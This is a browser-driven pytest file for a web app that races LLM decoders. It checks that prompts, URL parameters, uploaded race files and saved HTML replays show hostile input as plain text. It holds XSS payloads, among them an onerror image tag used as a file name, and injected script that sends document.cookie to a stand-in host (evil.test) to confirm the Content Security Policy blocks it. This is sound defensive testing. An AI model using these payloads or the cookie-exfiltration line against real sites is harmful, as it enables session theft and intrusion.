"""Text stays text, wherever it enters: the prompt, a link, a file of a race, and the replay that is
saved from it.
"""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import urlencode

import pytest

from payloads import PAYLOADS
from race_page import OVER, RacePage, save

MARKUP = ("<b>bold</b>", "<a href='https://evil.test'>x</a>")  # what Plotly would draw as such
FOREIGN = """() => {
  const race = document.querySelector("main .race") ?? document.querySelector(".race");
  return [...race.querySelectorAll("script, iframe, object, embed, img:not(.charts img), form[action], base, link, meta, a[href]:not([href^='blob:']), marquee, video, audio, math, isindex")].map((node) => node.outerHTML.slice(0, 120));
}"""


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 60


def innocent(page: object) -> None:
    assert page.evaluate("window.pwned") is None
    assert page.evaluate(FOREIGN) == []


def test_a_prompt_and_a_link_stay_text(chromium: object, app_url: str) -> None:
    prompt = "Hi. " + " ".join(PAYLOADS)
    # two panels: the prompt's two thousand tokens are what costs
    query = urlencode({"prompt": prompt, "max-tokens": 4, "panel": ["ar", "dmtd"]}, doseq=True)
    visit = RacePage(chromium, f"{app_url}?{query}")
    # the link is opened after the page
    visit.page.wait_for_function(
        "(prompt) => document.querySelector('#prompt textarea')?.value === prompt", arg=prompt
    )
    visit.press("#run")
    assert visit.wait_until(*OVER) == "done"
    shown = visit.page.locator(".turn").first.inner_text()
    assert all(payload.replace("\t", " ") in shown.replace("\t", " ") for payload in PAYLOADS)
    innocent(visit.page)
    visit.close()


def hostile_race() -> str:
    """A race whose every text is a payload, in the form that the page opens."""
    spec = PAYLOADS[10]
    panel = {
        "spec": spec,
        "decoder": PAYLOADS[0],
        "label": PAYLOADS[20],
        "options": {PAYLOADS[11]: PAYLOADS[12]},
        "model": PAYLOADS[30],
        "dtype": PAYLOADS[13],
        "quantization": PAYLOADS[14],
        "layers": 12,
        "prompt_tokens": 3,
    }
    header = {
        "type": "header",
        "schema": 1,
        "run": PAYLOADS[1],
        "seed": 0,
        "sampling": {"temperature": PAYLOADS[2]},
        "prompt": PAYLOADS[3],
        "max_new_tokens": 99,
        "machine": {PAYLOADS[4]: PAYLOADS[5], "processor": PAYLOADS[6]},
        "panels": [
            {"panel": index, **panel, "spec": payload}
            for index, payload in enumerate((spec, *MARKUP))
        ],
        "conversations": [[{"role": PAYLOADS[7], "content": payload} for payload in PAYLOADS]] * 3,
    }
    lines = [header]
    for index in range(3):
        for step, payload in enumerate(PAYLOADS):
            lines.append(
                {
                    "type": "step",
                    "panel": index,
                    "step": step,
                    "ms": 10.0 * (step + 1),
                    "passes": [
                        {"kind": "full" if step else PAYLOADS[8], "runs": [[0, 12, 1]], "ms": 10.0}
                    ],
                    "tokens": [
                        {
                            "id": step,
                            "text": payload,
                            "origin": "full",
                            "span": step,
                            "logprob": -0.1,
                            "top": [[step, payload, 0.9], [1, PAYLOADS[9], 0.1]],
                        }
                    ],
                }
            )
        figures = {
            "stop": PAYLOADS[15] if index else "error",
            "message": PAYLOADS[16],
            "tokens": len(PAYLOADS),
            "decode_seconds": 1.0,
            "tokens_per_second": 10.0,
            "first_token_ms": 10.0,
            "full_passes": len(PAYLOADS),
            "tokens_per_full_pass": 1.0,
            "plt": 1.0,
            "spans": {PAYLOADS[17]: 3, "1": 3},
            "origins": {PAYLOADS[18]: 3},
            "repetition_ratio": 0.0,
            "text": "".join(PAYLOADS),
            "agreement": 1.0,
            "audit_agreement": 1.0,
            "extra_parameters": 0,
        }
        lines.append({"type": "summary", "panel": index, **figures})
    return "\n".join(map(json.dumps, lines))


@pytest.mark.parametrize("name", ["race.jsonl", "<img src=x onerror=window.pwned=1>.jsonl"])
def test_a_file_and_its_replay_stay_text(
    visit: RacePage, chromium: object, tmp_path: Path, name: str
) -> None:
    visit.wait_for_charts()
    visit.page.set_input_files(
        ".keep input", files=[{"name": name, "mimeType": "", "buffer": hostile_race().encode()}]
    )
    assert visit.wait_until("done", "error", "stopped")
    assert visit.page.locator("[data-panel='0'] [data-origin]").count() == len(PAYLOADS)
    for token in visit.page.locator("[data-panel='0'] [data-origin]").all()[::9]:
        token.hover()
    innocent(visit.page)
    drawn = visit.page.locator(".charts").evaluate("node => node.textContent")
    assert all(text in drawn for text in MARKUP), "a name in a chart is no markup"
    assert visit.page.locator(".charts a[href], .charts svg a").count() == 0
    replay = save(visit, "Save as HTML replay", tmp_path)
    page = chromium.new_page()
    page.goto(replay.as_uri())
    page.wait_for_selector(
        "[data-status='done'], [data-status='error'], [data-status='stopped']", state="attached"
    )
    innocent(page)
    page.close()


def test_markup_that_slipped_through_could_run_nothing_and_reach_nobody(visit: RacePage) -> None:
    """As if the page had a hole: the policy of the page is the second wall."""
    answered: list[str] = []
    visit.page.on("response", lambda response: answered.append(response.url))
    seen = visit.page.evaluate(
        """async (payloads) => {
      const hole = document.createElement("div");
      document.body.append(hole);
      for (const payload of payloads) hole.innerHTML += payload;
      const script = document.createElement("script");
      script.textContent = "window.pwned = 1";
      hole.append(script);
      const reached = await fetch("https://evil.test/?" + document.cookie).then(() => true, () => false);
      await new Promise((done) => setTimeout(done, 500));
      hole.remove();
      return [window.pwned ?? null, reached];
    }""",
        [
            payload
            for payload in PAYLOADS
            if "<meta" not in payload.lower() and "<base" not in payload.lower()
        ],
    )
    assert seen == [None, False]
    assert any("Content Security Policy" in complaint for complaint in visit.complaints), (
        "it was the policy that said no"
    )
    assert all(url.startswith((visit.url, "data:", "blob:")) for url in answered), answered
    visit.page.goto("about:blank")  # what it was made to complain of ends with it
    visit.complaints.clear()
    visit.requests.clear()


@pytest.mark.parametrize(
    "text,words",
    [
        ("[" * 200_000, "at most 20 lists within lists"),
        ('{"type": "header"' + ', "x": [' * 30, "at most 20 lists within lists"),
        ("{}\n" * 200_001, "at most 200000 records"),
    ],
    ids=["lists", "objects", "records"],
)
def test_a_file_past_the_limits_is_refused(visit: RacePage, text: str, words: str) -> None:
    visit.page.set_input_files(
        ".keep input", files=[{"name": "race.jsonl", "mimeType": "", "buffer": text.encode()}]
    )
    visit.page.locator("[role='status']", has_text=words).wait_for(timeout=20_000)
